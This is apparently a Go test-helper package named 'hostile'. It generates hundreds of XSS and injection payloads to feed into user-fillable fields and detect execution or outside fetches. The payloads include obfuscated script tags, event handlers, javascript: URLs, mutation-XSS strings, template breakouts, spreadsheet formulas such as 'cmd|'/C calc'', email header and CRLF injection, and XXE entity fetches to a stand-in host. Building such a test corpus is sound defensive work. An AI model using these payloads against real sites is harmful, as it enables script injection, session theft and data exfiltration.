// Package hostile holds what somebody may write into a field so that it runs where it
// is shown: in a page, at the desk, in a letter, a feed, a table for a spreadsheet. Tests
// put all of it into every field that strangers can fill and look whether anything ran
// or anything was fetched from elsewhere.
//
// The ways are those that are known in public (OWASP's and PortSwigger's lists of ways to
// write a script, mutation by parsers, CVEs of sanitisers); the texts are made here, from
// parts, so that each way meets each kind of event and each disguise.
package hostile

import (
	"fmt"
	"strings"
)

// Host is where payloads would fetch from: no test has it, so that any request there
// is seen.
const Host = "hostile.invalid"

// Mark is what a payload that runs sets in its window: window[Mark] = true.
const Mark = "__hostile"

// run is a script without quotes and spaces that leaves the mark.
const run = "window." + Mark + "=true"

// Payloads gives all of them, in an order that stays.
func Payloads() []string {
	var out []string
	add := func(list ...string) { out = append(out, list...) }

	// Scripts in all the ways that a tag can be spelt.
	for _, tag := range []string{"<script>%s</script>", "<SCRIPT>%s</SCRIPT>", "<scr\x00ipt>%s</script>", "<script\n>%s</script\n>", "<script/x>%s</script>",
		"<script x>%s</script y>", "<<script>%s</script>", "<script>%s", "<scr<script>ipt>%s</scr</script>ipt>", "</title><script>%s</script>",
		"</textarea><script>%s</script>", "</style><script>%s</script>", "</noscript><script>%s</script>", "--><script>%s</script>", "]]><script>%s</script>",
		"</script><script>%s</script>", "'><script>%s</script>", "\"><script>%s</script>", "`><script>%s</script>", "<svg><script>%s</script></svg>",
		"<svg><script>%s", "<math><script>%s</script></math>", "<template><script>%s</script></template>", "<noscript><p title=\"</noscript><script>%s</script>\">",
		"<script type=module>%s</script>", "<script type=text/plain>x</script><script>%s</script>", "\u2028<script>%s</script>\u2029", "<!--><script>%s</script>-->",
		"<![CDATA[<script>%s</script>]]>", "<?xml version=\"1.0\"?><script xmlns=\"http://www.w3.org/1999/xhtml\">%s</script>", "<\uFF53cript>%s</script>"} {
		add(fmt.Sprintf(tag, run))
	}
	for _, from := range []string{"//" + Host + "/x.js", "https://" + Host + "/x.js", "data:text/javascript," + run, "\\\\" + Host + "\\x.js"} {
		add("<script src="+from+"></script>", "<script src=\""+from+"\"></script>", "<link rel=modulepreload href="+from+">", "<script async defer src='"+from+"'>")
	}

	// Events of every kind of element that has some by itself.
	for _, el := range []string{"<img src=x %s>", "<img/src=x/%s>", "<img src=x\n%s\n>", "<svg %s>", "<svg/%s>", "<body %s>", "<iframe src=about:blank %s></iframe>", "<video src=x %s></video>",
		"<video><source src=x %s></video>", "<audio src=x %s>", "<input autofocus %s>", "<select autofocus %s>", "<textarea autofocus %s>", "<details open %s>", "<marquee %s>x</marquee>",
		"<object data=x %s>", "<embed src=x %s>", "<link rel=stylesheet href=x %s>", "<style %s></style>", "<a tabindex=1 autofocus %s>x</a>", "<dialog open %s>",
		"<p %s style=animation-name:x>x</p>", "<math %s>", "<custom-element tabindex=1 autofocus %s>", "\" %s x=\"", "' %s x='", "` %s x=`", "x %s ", "<isindex type=image src=1 %s>"} {
		for _, event := range []string{"onerror", "onload", "onfocus", "ontoggle", "onstart", "onanimationstart", "onpointerover"} {
			add(fmt.Sprintf(el, event+"="+run))
		}
	}
	for _, disguise := range []string{"on\nerror=%s", "onerror =%s", "onerror\t=\t%s", "ONERROR=%s", "onerror='%s'", "onerror=\"%s\"", "onerror=`%s`", "onerror&#61;%s", "&#111;nerror=%s",
		"x:onerror=%s", "onerror\x0c=%s", "/onerror=%s", "onerror=\u200b%s"} {
		add("<img src=x " + fmt.Sprintf(disguise, run) + ">")
	}

	// Addresses that are scripts, wherever an address stands.
	for _, scheme := range []string{"javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\tscript:", "java\nscript:", "java\rscript:", "javascript&colon;", "&#106;avascript:",
		"&#x6A;avascript:", "javascript\u200b:", "\u00a0javascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "blob:", "feed:javascript:", "view-source:javascript:",
		"jar:javascript:", "//" + Host + "/", "\\\\" + Host + "\\", "/\\" + Host, "https:" + Host, "http://" + Host + "@"} {
		to := scheme + run
		add("<a href=\""+to+"\">x</a>", "<a href="+to+">x</a>", "["+"x]("+to+")", "<form action=\""+to+"\"><button>x</button></form>", "<iframe src=\""+to+"\"></iframe>", "<svg><a xlink:href=\""+to+"\"><text>x</text></a></svg>")
	}
	add("<base href=//"+Host+"/>", "<meta http-equiv=refresh content=\"0;url=https://"+Host+"/\">", "<meta http-equiv=refresh content=\"0;url=javascript:"+run+"\">",
		"<button formaction=javascript:"+run+">x</button>", "<input type=image src=//"+Host+"/x.png formaction=javascript:"+run+">", "<object data=javascript:"+run+"></object>", "<embed src=javascript:"+run+">",
		"<iframe srcdoc=\"<script>parent."+Mark+"=true</script>\"></iframe>", "<iframe srcdoc=&lt;script&gt;parent."+Mark+"=true&lt;/script&gt;></iframe>",
		"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror="+run+" /></svg>#x\"/></svg>",
		"<svg><animate onbegin="+run+" attributeName=x dur=1s></svg>", "<svg><set attributeName=href to=javascript:"+run+"></svg>", "<svg><foreignObject><body onload="+run+"></foreignObject></svg>",
		"<math href=javascript:"+run+">x</math>", "<math><maction actiontype=statusline xlink:href=javascript:"+run+">x</maction></math>", "<portal src=javascript:"+run+">", "<frameset onload="+run+">", "<table background=javascript:"+run+">",
		"<a ping=//"+Host+"/ href=#>x</a>", "<input name=attributes><input name=children>", "<form id=x></form><button form=x formaction=javascript:"+run+">x</button>")

	// What loads by itself.
	for _, loads := range []string{"<img src=//%s/a.png>", "<img srcset=\"//%s/a.png 1x\">", "<video poster=//%s/a.png>", "<audio src=//%s/a.mp3 autoplay>", "<iframe src=//%s/></iframe>", "<object data=//%s/></object>", "<embed src=//%s/>",
		"<link rel=stylesheet href=//%s/a.css>", "<link rel=prefetch href=//%s/>", "<link rel=preconnect href=//%s>", "<style>@import '//%s/a.css';</style>", "<p style=\"background:url(//%s/a.png)\">x</p>", "<svg><image href=//%s/a.png></svg>",
		"<svg><feImage href=//%s/a.png></svg>", "<input type=image src=//%s/a.png>", "<body background=//%s/a.png>", "<table background=//%s/a.png>", "<track src=//%s/a.vtt default>", "![x](//%s/a.png)", "![x](https://%s/a.png)",
		"<style>*{background:url(https://%s/a.png)}</style>", "<picture><source srcset=https://%s/a.png><img></picture>", "<applet code=//%s/a>", "<bgsound src=//%s/a>"} {
		add(fmt.Sprintf(loads, Host))
	}

	// Texts that change their sense when they are parsed a second time.
	for _, mutation := range []string{"<noscript><p title=\"</noscript><img src=x onerror=%s>\">", "<svg></p><style><a id=\"</style><img src=x onerror=%s>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=%s&gt;\">",
		"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=%s>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=%s>\">", "<svg><desc><template><img src=x onerror=%s></template></desc></svg>",
		"<a title=\"&lt;img src=x onerror=%s&gt;\">x</a>", "&lt;img src=x onerror=%s&gt;", "&amp;lt;img src=x onerror=%s&amp;gt;", "%%3Cimg src=x onerror=%s%%3E", "\\u003cimg src=x onerror=%s\\u003e", "\\x3cimg src=x onerror=%s\\x3e",
		"+ADw-img src=x onerror=%s+AD4-", "<x><xmp><p title=\"</xmp><img src=x onerror=%s>\">", "<style><style/><img src=x onerror=%s>", "<table><td><img src=x onerror=%s>", "<plaintext><img src=x onerror=%s>", "<listing>&lt;img onerror=%s src=x&gt;</listing>"} {
		add(fmt.Sprintf(mutation, run))
	}

	// Inside a script, a template, JSON, an attribute.
	for _, inside := range []string{"\";%s;//", "';%s;//", "`;%s;//", "\\\";%s;//", "\\';%s;//", "${%s}", "{{%s}}", "{{constructor.constructor('%s')()}}", "{%% raw %%}%s", "<%%= %s %%>", "#{%s}", "[[%s]]", "{{.Evil}}%s", "</script>%s",
		"\u2028%s\u2029", "*/%s/*", "-->%s<!--", "\n%s\n", "};%s;{", "]];%s;[[", "\",\"x\":\"%s", "\\u0022;%s;//", "__proto__[x]=%s", "constructor.prototype.x=%s"} {
		add(fmt.Sprintf(inside, run))
	}
	for _, style := range []string{"expression(%s)", "x:url(javascript:%s)", "behavior:url(#default#%s)", "-moz-binding:url(//" + Host + "/#%s)"} {
		add("<p style=\""+fmt.Sprintf(style, run)+"\">x</p>", fmt.Sprintf(style, run))
	}

	// Other places than pages: spreadsheets, headers of letters, logs, terminals, feeds.
	add("=HYPERLINK(\"https://"+Host+"/\",\"x\")", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "=IMPORTXML(\"https://"+Host+"\",\"//a\")",
		"x\r\nBcc: all@"+Host, "x\nContent-Type: text/html\n\n<script>"+run+"</script>", "x%0d%0aSet-Cookie:%20a=b", "\x1b[2J\x1b]0;x\x07", "<!DOCTYPE x [<!ENTITY y SYSTEM \"https://"+Host+"/\">]>&y;", "<xi:include href=https://"+Host+"/>",
		"]]>]]&gt;<script>"+run+"</script>", "&nosuchentity;&#0;&#xD800;", "\u202Egnp.exe\u202C", strings.Repeat("<b>", 300)+run, strings.Repeat("&", 500), "\uFEFF<script>"+run+"</script>", "A\u0300\u0301\u0302<svg/onload="+run+">")
	return out
}
